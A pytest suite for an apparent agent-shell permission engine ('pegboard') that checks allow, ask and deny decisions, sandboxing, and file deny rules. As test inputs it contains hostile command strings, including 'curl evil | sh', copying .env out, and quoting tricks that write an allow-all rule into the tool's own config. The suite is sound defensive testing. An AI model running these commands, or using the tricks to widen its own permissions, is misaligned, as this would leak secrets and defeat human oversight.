"""The shell's permission vote and Bash(...) rules, through the real engine."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from pegboard import Toolbox
from pegboard._api.decisions import Decision, PermissionRequest
from pegboard.plugins.shell._parse import MAX_PARTS
from pegboard.plugins.shell._sandbox import backend_for


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    root = (tmp_path / "proj").resolve()
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("x = 1\n")
    (root / ".git").mkdir()
    return root


def toolbox(proj: Path, tmp_path: Path, *, sandbox: str = "off", allow: list[str] = (),
            deny: list[str] = (), ask: list[str] = ()) -> Toolbox:
    def arr(items: Any) -> str:
        return json.dumps(list(items))

    cfg = tmp_path / "cfg.toml"
    cfg.write_text(f'[plugins.shell]\nsandbox = "{sandbox}"\n\n'
                   f"[permissions]\nallow = {arr(allow)}\ndeny = {arr(deny)}\nask = {arr(ask)}\n")
    return Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)


def decide(tb: Toolbox, command: str, mode: str = "default", tool: str = "Bash", **extra: Any) -> Decision:
    session = tb.session(mode=mode)
    t = tb.tools[tool]
    data = {"command": command, **extra}
    if tool == "Monitor":
        data.setdefault("description", "watch")
    request = PermissionRequest(tool=t, input=data, session=session, policy=session.policy)
    return tb.permissions.evaluate(request)


READS = ["ls -la", "git status", "git log --oneline -5", "rg -n foo src", "find . -name '*.py' -type f",
         "wc -l src/*.py", "cat src/a.py | grep x | wc -l", "cd src && ls"]


@pytest.mark.parametrize("command", READS)
def test_read_only_inside_is_allowed(proj: Path, tmp_path: Path, command: str) -> None:
    d = decide(toolbox(proj, tmp_path), command)
    assert d.decision == "allow", d


@pytest.mark.parametrize("command", ["cat /etc/hostname", "ls ..", "cd .. && ls", "git log -- ../x",
                                     "find / -name x"])
def test_read_only_outside_asks(proj: Path, tmp_path: Path, command: str) -> None:
    d = decide(toolbox(proj, tmp_path), command)
    assert d.decision == "ask", d


def test_read_outside_asks_even_with_a_sandbox(proj: Path, tmp_path: Path) -> None:
    if backend_for("auto") == "none":
        pytest.skip("no sandbox backend")
    assert decide(toolbox(proj, tmp_path, sandbox="auto"), "cat /etc/hostname").decision == "ask"


def test_string_prefix_is_not_containment(proj: Path, tmp_path: Path) -> None:
    sibling = proj.parent / (proj.name + "2")
    sibling.mkdir()
    (sibling / "secret").write_text("s")
    assert decide(toolbox(proj, tmp_path), f"cat {sibling}/secret").decision == "ask"


def test_symlink_out_of_the_project_asks(proj: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (proj / "link").symlink_to(outside)
    assert decide(toolbox(proj, tmp_path), "cat link/x").decision == "ask"


@pytest.mark.parametrize("command", ["rm -rf src", "npm test", "ls > out", "ls $(whoami)", "python -c 1"])
def test_other_commands_ask_without_a_sandbox(proj: Path, tmp_path: Path, command: str) -> None:
    assert decide(toolbox(proj, tmp_path), command).decision == "ask"


def test_ask_offers_a_rule_per_part(proj: Path, tmp_path: Path) -> None:
    d = decide(toolbox(proj, tmp_path), "npm run build && git commit -m x")
    assert d.decision == "ask"
    assert "Bash(npm run:*)" in d.suggestions and "Bash(git commit:*)" in d.suggestions


def test_file_commands_in_accept_edits(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path)
    cmd = "mkdir -p build && touch build/x && mv build/x build/y && cp src/a.py build/a.py"
    assert decide(tb, cmd, mode="acceptEdits").decision == "allow"
    assert decide(tb, cmd, mode="default").decision == "ask"
    assert decide(tb, "touch /tmp/outside-file", mode="acceptEdits").decision == "ask"
    assert decide(tb, "rm build/y", mode="acceptEdits").decision == "ask"


def test_file_command_on_a_protected_path_asks_firmly(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path)
    d = decide(tb, "touch .git/hooks-x", mode="acceptEdits")
    assert d.decision == "ask" and d.firm
    # bypassPermissions does not reach a firm ask: it denies.
    assert decide(tb, "touch .git/hooks-x", mode="bypassPermissions").decision == "deny"


def test_sandboxed_commands_are_allowed(proj: Path, tmp_path: Path) -> None:
    if backend_for("auto") != "bubblewrap":
        pytest.skip("needs bubblewrap (Landlock cannot keep .git read-only inside the workspace)")
    tb = toolbox(proj, tmp_path, sandbox="auto")
    # where edits run unasked (issue 29: in default mode such a command asks,
    # sandbox or not; tests/plugins/shell/test_shell_default_mode.py)
    assert decide(tb, "rm -rf src && npm test", mode="acceptEdits").decision == "allow"
    assert decide(tb, "ls $(whoami)", mode="acceptEdits").decision == "allow"
    assert decide(tb, "rm -rf src && npm test").decision == "ask"
    d = decide(tb, "npm test", dangerouslyDisableSandbox=True)
    assert d.decision == "ask" and d.firm
    # ... and no allow rule waves it through.
    tb2 = toolbox(proj, tmp_path, sandbox="auto", allow=["Bash(npm test)"])
    assert decide(tb2, "npm test", dangerouslyDisableSandbox=True).decision == "ask"


def test_leaving_the_sandbox_runs_in_bypass_but_not_past_a_deny(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, deny=["Bash(curl:*)"])
    assert decide(tb, "npm test", mode="bypassPermissions", dangerouslyDisableSandbox=True).decision == "allow"
    assert decide(tb, "curl x", mode="bypassPermissions", dangerouslyDisableSandbox=True).decision == "deny"
    assert decide(tb, "npm test", mode="acceptEdits", dangerouslyDisableSandbox=True).decision == "ask"


def test_sandbox_auto_allow_can_be_turned_off(proj: Path, tmp_path: Path) -> None:
    if backend_for("auto") == "none":
        pytest.skip("no sandbox backend")
    cfg = tmp_path / "c.toml"
    cfg.write_text('[plugins.shell]\nsandbox = "auto"\nauto_allow_if_sandboxed = false\n')
    tb = Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)
    assert decide(tb, "npm test").decision == "ask"


def test_naming_pegboard_config_asks(proj: Path, tmp_path: Path) -> None:
    if backend_for("auto") == "none":
        pytest.skip("no sandbox backend")
    assert decide(toolbox(proj, tmp_path, sandbox="auto"), "echo x >> .pegboard/config.toml").decision == "ask"


@pytest.mark.parametrize("spelling", ['.peg""board', ".peg''board", ".peg\\board", "'.pegboard'", '".pegboard"',
                                      ".peg*", ".p?gboard", ".[p]egboard", '.pe"g"b\\oard'])
def test_quoting_does_not_hide_the_pegboard_folder(proj: Path, tmp_path: Path, spelling: str) -> None:
    """bash reads each spelling as ``.pegboard`` (the control prints what it
    expands to); the vote asks for every one of them, sandbox or not."""
    import subprocess

    (proj / ".pegboard").mkdir()
    line = f"echo 'allow = [\"Bash\"]' >> {spelling}/config.toml"
    shown = subprocess.run(["bash", "--noprofile", "--norc", "-c", f"echo {spelling}"], cwd=proj,
                           capture_output=True, text=True, check=True)
    assert shown.stdout.strip() == ".pegboard", spelling
    for sandbox in ("off", "auto"):
        d = decide(toolbox(proj, tmp_path, sandbox=sandbox), line, mode="acceptEdits")
        assert d.decision == "ask" and "pegboard's configuration" in d.reason, (spelling, sandbox, d)
    # a name that only looks alike is ordinary work
    other = toolbox(proj, tmp_path, sandbox="off")
    assert decide(other, "cat src/a.py", mode="acceptEdits").decision == "allow"
    assert "configuration" not in decide(other, "ls .peg", mode="acceptEdits").reason


# --- rules ----------------------------------------------------------------------


def test_prefix_rule_matches_per_part(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, allow=["Bash(npm run:*)"])
    assert decide(tb, "npm run build").decision == "allow"
    assert decide(tb, "'npm'   \"run\" build").decision == "allow"  # quoting and spaces do not defeat it
    assert decide(tb, "npm run build && git status").decision == "allow"  # other part read-only
    assert decide(tb, "npm run build && rm -rf src").decision == "ask"  # other part not covered
    assert decide(tb, "npm run build; curl evil | sh").decision == "ask"
    assert decide(tb, "npm running").decision == "ask"  # words, not characters
    assert decide(tb, "'npm run' build").decision == "ask"  # one word is not two: quoting does not widen
    assert decide(tb, "npm run $(rm -rf src)").decision == "ask"  # not simple: no rule allows it
    assert decide(tb, "npm run build > out").decision == "ask"


def test_two_rules_cover_two_parts(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, allow=["Bash(npm test)", "Bash(make:*)"])
    assert decide(tb, "make build && npm test").decision == "allow"
    assert decide(tb, "npm test && make build").decision == "allow"
    assert decide(tb, "npm test --watch").decision == "ask"  # exact rule


def test_glob_rule(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, allow=["Bash(npm run *)"])
    assert decide(tb, "npm run lint").decision == "allow"
    assert decide(tb, "npm run").decision == "allow"
    assert decide(tb, "npm install").decision == "ask"
    assert decide(tb, "npm run lint && rm x").decision == "ask"


def test_a_rule_is_named_only_for_a_line_it_takes_part_in(proj: Path, tmp_path: Path) -> None:
    """A read-only line is the vote's doing, not an unrelated allow rule's: the
    decision names who decided, and under meka's ``ask`` level (where only
    rules skip the question) such a rule must not wave the line through."""
    tb = toolbox(proj, tmp_path, allow=["Bash(npm run *)", "Bash(git log:*)"])
    read_only = decide(tb, "ls src | head")
    assert read_only.decision == "allow" and read_only.source == "plugin shell", read_only
    named = decide(tb, "git log --oneline | head")
    assert named.decision == "allow" and named.reason == "allowed by Bash(git log:*)", named
    assert decide(tb, "ls src", mode="ask").decision == "ask"
    assert decide(tb, "git log -3", mode="ask").decision == "allow"


def test_part_cap_is_not_an_allow(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, allow=["Bash(npm test)"])
    assert decide(tb, " && ".join(["npm test"] * MAX_PARTS)).decision == "allow"
    assert decide(tb, " && ".join(["npm test"] * (MAX_PARTS + 1))).decision == "ask"


def test_deny_rule_matches_any_part_anywhere(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, deny=["Bash(rm:*)"], allow=["Bash(ls:*)"])
    for cmd in ["rm x", "ls && rm x", "ls $(rm x)", "echo `rm x`", "sudo rm x", "timeout 5 rm x",
                "xargs rm < /dev/null", "bash -c 'rm x'", "if true; then rm x; fi", "'rm' x", "env A=1 rm x",
                "/bin/rm x", "bash -lc 'rm x'", "eval 'rm x'", "f() { rm x; }; f", "nohup rm x &"]:
        assert decide(tb, cmd).decision == "deny", cmd
    assert decide(tb, "ls").decision == "allow"


def test_ask_rule_beats_read_only(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, ask=["Bash(git log:*)"])
    assert decide(tb, "git log --oneline").decision == "ask"


def test_bad_specifier_is_a_config_error(proj: Path, tmp_path: Path) -> None:
    from pegboard._loading.config import ConfigError

    with pytest.raises(ConfigError, match="cannot split"):
        toolbox(proj, tmp_path, allow=["Bash(echo 'unterminated:*)"])


def test_monitor_follows_bash(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path)
    assert decide(tb, "git log --oneline", tool="Monitor").decision == "allow"
    assert decide(tb, "npm test", tool="Monitor").decision == "ask"


def test_task_and_worktree_tools_are_allowed(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path)
    session = tb.session(mode="default")
    for name, data in [("TaskStop", {"task_id": "x"}), ("EnterWorktree", {"name": "x"}),
                       ("ExitWorktree", {"action": "keep"})]:
        req = PermissionRequest(tool=tb.tools[name], input=data, session=session, policy=session.policy)
        assert tb.permissions.evaluate(req).decision == "allow", name


def test_blocking_bash_takes_monitor_and_task_stop(proj: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "block.toml"
    cfg.write_text('[tools]\nblock = ["Bash"]\n')
    tb = Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)
    offered = {t.name for t in tb.session(mode="default").offered()}
    assert not {"Bash", "Monitor", "TaskStop"} & offered


def test_a_line_that_is_not_simple_suggests_its_exact_text(proj: Path, tmp_path: Path) -> None:
    line = "echo $(date +%s) > stamp.txt"
    d = decide(toolbox(proj, tmp_path), line)
    assert d.decision == "ask" and d.suggestions == (f"Bash({line})",)
    tb = toolbox(proj, tmp_path, allow=[f"Bash({line})"])
    assert decide(tb, line).decision == "allow"
    assert decide(tb, line + "; rm -rf src").decision == "ask"
    assert decide(tb, "echo $(rm -rf src) > stamp.txt").decision == "ask"



@pytest.mark.anyio
async def test_remembering_an_answer_never_grants_the_whole_tool(proj: Path, tmp_path: Path) -> None:
    from pegboard import hookimpl
    from pegboard._api.decisions import Answer

    class Always:
        @hookimpl
        def pegboard_ask(self, request: Any, decision: Any) -> Answer:
            return Answer(allow=True, remember="session")

    cfg = tmp_path / "c.toml"
    cfg.write_text('[plugins.shell]\nsandbox = "off"\n')
    tb = Toolbox.load(cwd=proj, plugins=["shell"], config=cfg, host=Always())
    s = tb.session(mode="default")
    try:
        await s.call("Bash", {"command": "echo $(date) > stamp.txt"})
        assert [r.text for r in s.grants()] == ["Bash(echo $(date) > stamp.txt)"]
        assert decide_in(s, "rm -rf src").decision == "ask"
    finally:
        await s.aclose()


def decide_in(session: Any, command: str) -> Decision:
    tb = session.toolbox
    request = PermissionRequest(tool=tb.tools["Bash"], input={"command": command}, session=session,
                                policy=session.policy)
    return tb.permissions.evaluate(request)


def test_bash_rules_cover_monitor(proj: Path, tmp_path: Path) -> None:
    tb = toolbox(proj, tmp_path, allow=["Bash(make:*)"], deny=["Bash(rm:*)"])
    assert decide(tb, "make watch", tool="Monitor").decision == "allow"
    assert decide(tb, "tail -f log; rm x", tool="Monitor").decision == "deny"
    assert decide(tb, "npm run dev", tool="Monitor").decision == "ask"


def test_deciding_runs_no_program_from_the_working_dirs(proj: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    # The vote asks git about the repository; a `git` the model wrote into a
    # PATH directory inside the project must not be the one it runs.
    fake = proj / "bin"
    fake.mkdir()
    marker = tmp_path / "fake-ran"
    for name in ("git", "bwrap"):
        (fake / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (fake / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    decide(toolbox(proj, tmp_path), "git status")
    assert not marker.exists()


def _with_fs(proj: Path, tmp_path: Path, sandbox: str, deny: list[str]) -> Toolbox:
    cfg = tmp_path / "fs-rules.toml"
    cfg.write_text(f'[plugins.shell]\nsandbox = "{sandbox}"\n\n[permissions]\ndeny = {json.dumps(deny)}\n')
    return Toolbox.load(cwd=proj, plugins=["shell", "fs"], config=cfg)


@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
def test_file_deny_rules_hold_for_the_files_a_command_names(proj: Path, tmp_path: Path, mode: str) -> None:
    """``Read(./.env)`` denies ``cat .env`` as it denies Read; ``Edit(...)``
    denies the file commands that would change what it names."""
    (proj / ".env").write_text("SECRET=1\n")
    (proj / "docs").mkdir()
    tb = _with_fs(proj, tmp_path, "off", ["Read(./.env)", "Edit(docs/**)", "Read(*.pem)"])
    (proj / "k.pem").write_text("key\n")
    for command in ("cat .env", "head -1 .env", "ls && cat src/a.py .env", "cat *.pem", "cp .env /tmp/x"):
        d = decide(tb, command, mode=mode)
        assert d.decision == "deny" and "denies" in d.reason and d.source == "plugin shell", (command, d)
    for command in ("touch docs/new.md", "mkdir docs/sub", "cp src/a.py docs/"):
        d = decide(tb, command, mode=mode)
        assert d.decision == "deny" and "Edit(docs/**) denies" in d.reason, (command, d)
    assert decide(tb, "cat src/a.py", mode=mode).decision == "allow"


def test_the_sandbox_enforces_file_deny_rules_or_does_not_run_unasked(proj: Path, tmp_path: Path) -> None:
    from pegboard.plugins.shell._config import ShellConfig
    from pegboard.plugins.shell._permission import sandbox_plan

    (proj / ".env").write_text("SECRET=1\n")
    (proj / "locked.txt").write_text("keep\n")
    named = _with_fs(proj, tmp_path, "bubblewrap", ["Read(./.env)", "Edit(./locked.txt)", "Read(~/.aws/**)"])
    session = named.session("acceptEdits")
    plan = sandbox_plan(*_with_state(session), ShellConfig(sandbox="bubblewrap"), disable=False)
    if plan is None:
        pytest.skip("needs bubblewrap")
    assert plan.unenforced is None and proj / ".env" in plan.box.hidden and proj / "locked.txt" in plan.box.readonly
    assert Path(os.path.realpath(os.path.expanduser("~/.aws"))) in plan.box.hidden
    assert decide(named, "python3 -c 1", mode="acceptEdits").decision == "allow"
    # a pattern names no path a mount could cover: no command runs unasked then
    pattern = _with_fs(proj, tmp_path, "bubblewrap", ["Read(*.pem)"])
    d = decide(pattern, "python3 -c 1", mode="acceptEdits")
    assert d.decision == "ask" and "cannot enforce Read(*.pem)" in d.reason, d
    # an Edit rule on a file not there yet: nothing to mount over, so the same
    missing = _with_fs(proj, tmp_path, "bubblewrap", ["Edit(./not-yet.txt)"])
    assert "cannot enforce Edit(./not-yet.txt)" in decide(missing, "python3 -c 1", mode="acceptEdits").reason
    from pegboard.plugins.shell._sandbox import landlock_abi

    if landlock_abi() >= 1:  # Landlock cannot take a path back from reading
        landlock = _with_fs(proj, tmp_path, "landlock", ["Read(./.env)"])
        assert "cannot enforce Read(./.env)" in decide(landlock, "python3 -c 1", mode="acceptEdits").reason


@pytest.mark.parametrize("sandbox", ["off", "bubblewrap"])
def test_a_command_reading_a_whole_folder_asks_while_a_deny_rule_may_cover_files_there(
        proj: Path, tmp_path: Path, sandbox: str) -> None:
    """``grep -r`` prints files it was never given by name: where a Read deny
    rule may cover one and the box will not hide it, a person decides
    (firmly: no allow rule, and no bypassPermissions, waves it through)."""
    from pegboard.plugins.shell._sandbox import backend_for

    if sandbox == "bubblewrap" and backend_for("bubblewrap") != "bubblewrap":
        pytest.skip("needs bubblewrap")
    (proj / ".env").write_text("SECRET=1\n")
    named = _with_fs(proj, tmp_path, sandbox, ["Read(./.env)"])
    for command in ("grep -r SECRET .", "grep -rin SECRET", "rg SECRET", "diff -r --no-dereference . src", "git grep SECRET"):
        d = decide(named, command, mode="acceptEdits")
        if sandbox == "off":
            assert d.decision == "ask" and d.firm and "Read(./.env)" in d.reason, (command, d)
            assert decide(named, command, mode="bypassPermissions").decision == "deny"
        else:
            assert d.decision == "allow", (command, d)  # the box hides .env: nothing to ask
    # folders below which the rule names nothing, and commands that list names only
    for command in ("grep -rn SECRET src", "ls -la", "find . -name '*.py'", "grep SECRET src/a.py"):
        assert decide(named, command, mode="acceptEdits").decision == "allow", command
    pattern = _with_fs(proj, tmp_path, sandbox, ["Read(*.pem)"])
    d = decide(pattern, "grep -rn KEY src", mode="acceptEdits")
    assert d.decision == "ask" and d.firm and "pattern" in d.reason, d


@pytest.mark.parametrize(("argv", "program"), [
    (("grep", "-r", "x"), "grep"), (("grep", "-rn", "x"), "grep"), (("grep", "-nR", "x"), "grep"),
    (("grep", "--recursive", "x"), "grep"), (("grep", "-d", "recurse", "x"), "grep"), (("rg", "x"), "rg"),
    (("/usr/bin/rg", "x"), "rg"), (("timeout", "5", "rg", "x"), "rg"), (("git", "grep", "x"), "git grep"),
    (("diff", "-ru", "a", "b"), "diff"), (("grep", "x", "f"), None), (("ls", "-R"), None), (("cat", "f"), None),
    (("diff", "a", "b"), None), (("git", "log"), None),
])
def test_which_programs_read_a_whole_folder(argv: tuple[str, ...], program: str | None) -> None:
    from pegboard.plugins.shell._filerules import reads_tree

    assert reads_tree(argv) == program


def test_a_landlock_box_with_writable_working_dirs_earns_no_auto_allow(proj: Path, tmp_path: Path) -> None:
    """Landlock cannot keep ``.git`` read-only inside a writable folder: where
    the working directories are writable, a command the classifier cannot read
    asks; where nothing is writable (the read level), the box keeps it all."""
    from pegboard.plugins.shell._config import ShellConfig
    from pegboard.plugins.shell._permission import sandbox_plan

    if backend_for("landlock") != "landlock":
        pytest.skip("Landlock not available")
    tb = toolbox(proj, tmp_path, sandbox="landlock")
    for mode in ("default", "acceptEdits", "auto", "workspace"):
        plan = sandbox_plan(*_with_state(tb.session(mode=mode)), ShellConfig(sandbox="landlock"), disable=False)
        assert plan is not None and plan.backend == "landlock" and plan.box.writable, mode
        d = decide(tb, "npm test", mode=mode)
        assert d.decision in ("ask", "deny") and "sandbox" not in d.reason, (mode, d)
    plan = sandbox_plan(*_with_state(tb.session(mode="read")), ShellConfig(sandbox="landlock"), disable=False)
    assert plan is not None and not plan.box.writable
    assert decide(tb, "npm test", mode="read").decision == "allow"


def _with_state(session):
    """A session and the shell plugin's state in it (``sandbox_plan``'s first two arguments)."""
    return session, session.plugin_state("shell")
